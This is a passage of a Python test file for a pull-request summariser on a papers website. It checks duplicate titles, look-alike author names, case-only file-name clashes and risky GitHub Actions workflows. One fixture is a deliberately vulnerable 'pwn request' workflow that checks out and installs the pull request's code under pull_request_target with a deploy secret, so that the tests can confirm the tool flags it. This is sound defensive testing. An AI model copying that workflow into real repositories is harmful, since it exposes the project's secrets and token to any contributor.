    write(repo, {"papers/probing-2.md": paper("Probing Classifiers", ["Edsger Dijkstra"], ["interpretability"]),
                 "papers/survey-2.md": paper("An \u041eld Survey", ["Edsger Dijkstra"], ["interpretability"]),
                 "papers/fresh.md": paper("Something Else", ["Edsger Dijkstra"], ["interpretability"])})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert report.problems == []
    assert report.same_titles == {"papers/probing-2.md": ["papers/probing.md"],
                                  "papers/survey-2.md": ["papers/old-survey.md"]}
    summary = render_summary(report)
    assert ("- Probing Classifiers (`papers/probing-2.md`) — the same title as `papers/probing.md`: another work, or "
            "the same one under another first author or year?") in summary
    assert "- Something Else (`papers/fresh.md`)\n" in summary


def test_a_new_author_who_only_looks_like_a_published_one_is_asked_about(repo):
    """'Alan Turіng' (a Cyrillic і) on a new paper, while Alan Turing keeps his: a new author page beside his,
    which an alias would join, or an impostor: asked, both spellings shown as they differ."""
    write(repo, {"papers/sparse.md": paper("Sparse Features", ["Alan Tur\u0456ng"], ["interpretability"])})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert report.namesakes == {"Alan Tur\u0456ng": ["Alan Turing"]}
    assert ("- Alan Tur\\\\u0456ng — the same person as 'Alan Turing'? (already on the site; an `authors.yml` alias "
            "joins two spellings)") in render_summary(report)


def test_a_workflow_the_pull_request_adds_is_flagged_with_what_it_would_do(repo):
    """A 'pwn request': pull_request_target, the pull request's head checked out, a secret, no permissions set."""
    write(repo, {".github/workflows/preview.yml": """\
name: Preview
on:
  pull_request_target:
    types: [opened]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: pip install -r requirements.txt && mkdocs build
        env:
          TOKEN: ${{ secrets.DEPLOY_TOKEN }}
""", ".github/workflows/lint.yml": "on: [push, pull_request]\npermissions: {contents: read}\njobs:\n  lint:\n"
                                   "    permissions:\n      contents: write\n    runs-on: ubuntu-latest\n"
                                   "    steps: [{run: make lint}]\n"})
    commit(repo)
    report = summarize_pr(repo, "main", "HEAD")
    assert flagged(report, ".github/workflows/preview.yml").details == (
        "runs on: pull_request_target",
        "pull_request_target: runs the default branch's copy with the repository's token and secrets, for events "
        "anyone can cause",
        "permissions: not set (the repository's default for the token, which may be write)",
        "reads secrets: DEPLOY_TOKEN",
        "fetches or checks out the pull request's code in a pull_request_target workflow: check that none of it is "
        "run, installed or imported (it would run with the repository's token and secrets)")
    assert flagged(report, ".github/workflows/lint.yml").details == (
        "runs on: push, pull_request", "permissions: {'contents': 'read'}", "job lint: permissions {'contents': 'write'}")


def test_a_file_name_differing_only_in_case_is_told_of_the_pull_requests_file(repo):
    write(repo, {"papers/Probing.md": paper("Probing Again", ["Ada Lovelace"], ["interpretability"])})
    commit(repo)
    problems = [(problem.path, problem.message) for problem in summarize_pr(repo, "main", "HEAD").problems]
    assert ("papers/Probing.md", "differs only in case from probing.md") in problems
    assert not any(path == "papers/probing.md" for path, _ in problems)  # the published file is not the one to fix
